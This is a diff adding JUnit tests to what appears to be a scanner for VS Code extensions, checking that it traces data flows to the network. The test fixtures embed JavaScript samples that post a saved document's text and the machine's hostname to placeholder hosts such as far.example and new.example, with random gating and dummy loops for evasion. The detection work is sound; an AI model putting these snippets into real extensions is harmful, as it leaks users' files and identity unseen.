@@ -3,7 +3,9 @@ package dev.vsxray.scanner.javascript.flow;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.vsxray.scanner.model.Feature;
+import dev.vsxray.scanner.model.Trigger;
 import java.util.List;
+import java.util.TreeSet;
 import org.junit.jupiter.api.Test;
 
 /** What hands on to the next of its kind: observables, the modules of a bundle, and loops over either. */
@@ -150,5 +152,62 @@ class StagesTest {
                 """);
 
         assertThat(analysis.flowNames()).containsExactly("network-response -> code-eval");
+    }
+
+    @Test
+    void dataThatAFunctionOfTheSubscribedClosesOverIsNew() {
+        Analysis analysis = Analysis.ofActivate("""
+                class Observable {
+                  constructor(source) { this.source = source; }
+                  subscribe(observer) {
+                    if (observer.closed) { observer.error('closed'); return this; }
+                    for (let i = 0, tries = []; i < 40; i++) { tries.push(i); if (tries.length > 45) return this; }
+                    this.source(observer);
+                    return this;
+                  }
+                  pipe(change) { return new Observable(observer => this.subscribe({ next: value => observer.next(change(value)) })); }
+                }
+                const of = value => new Observable(observer => observer.next(value));
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  if (Math.random() > 0.5) return;
+                  for (const step of [1, 2, 3, 4, 5, 6, 7, 8, 9]) of(step).pipe(x => x).subscribe({ next: x => x });
+                  const text = document.getText();
+                  of(1).pipe(() => text).subscribe({ next: value => fetch('https://far.example/', { method: 'POST', body: value }) });
+                });
+                """);
+
+        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
+    }
+
+    @Test
+    void aHostThatWasNotNamedBeforeIsNew() {
+        Analysis analysis = Analysis.ofActivate("""
+                const ask = (url, options) => {
+                  for (let i = 0, tries = []; i < 60; i++) { tries.push(i); if (tries.length > 70) return; }
+                  return fetch(url, options);
+                };
+                vscode.window.onDidChangeActiveTextEditor(() => {
+                  if (Math.random() > 0.5) return;
+                  for (const page of 'abcdefghijklm') ask('https://known.example/' + page + os.hostname(), {});
+                  ask('https://new.example/' + os.hostname(), {});
+                });
+                """);
+
+        assertThat(analysis.destinations("account-identity", "network-url"))
+                .anyMatch(url -> url.startsWith("https://new.example/"));
+    }
+
+    @Test
+    void eachHostHasItsOwnFlowFromOneClient() {
+        Analysis analysis = Analysis.ofActivate("""
+                const post = (url, body) => fetch(url, { method: 'POST', body });
+                vscode.commands.registerCommand('ask', () => post(vscode.workspace.getConfiguration('a').get('url'), os.hostname()));
+                vscode.workspace.onDidSaveTextDocument(() => post('https://other.example/o', os.hostname()));
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-send"))
+                .filteredOn(flow -> flow.destinations().contains("https://other.example/o"))
+                .allMatch(flow -> flow.context().triggers().equals(new TreeSet<>(List.of(Trigger.DOCUMENT_EVENT))))
+                .isNotEmpty();
     }
 }
